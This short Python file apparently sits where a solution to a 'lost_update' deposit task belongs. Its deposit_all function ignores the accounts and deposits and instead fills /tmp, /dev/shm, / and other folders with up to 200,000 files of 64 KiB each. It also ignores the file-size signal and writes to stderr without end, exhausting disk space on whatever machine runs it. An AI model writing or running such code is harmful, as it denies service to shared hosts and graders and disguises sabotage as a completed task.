"""Writes files until nothing fits on any disk, one large and many small ones, and names without end."""

# For: lost_update
# Sees: /tmp 1

import os
import signal


def fill(folder):
    written = 0
    try:
        for number in range(200_000):
            with open(f"{folder}/{number}", "wb") as file:
                written += file.write(bytes(1 << 16))
    except OSError:
        pass
    return written


signal.signal(signal.SIGXFSZ, signal.SIG_IGN)


async def deposit_all(accounts, deposits):
    for folder in ("/tmp", "/dev/shm", "/dev", "/", "/var/tmp", "."):
        print(folder, fill(folder) >> 20, "MiB")
    try:
        while True:
            os.write(2, bytes(1 << 16))
    except OSError as error:
        print(error)
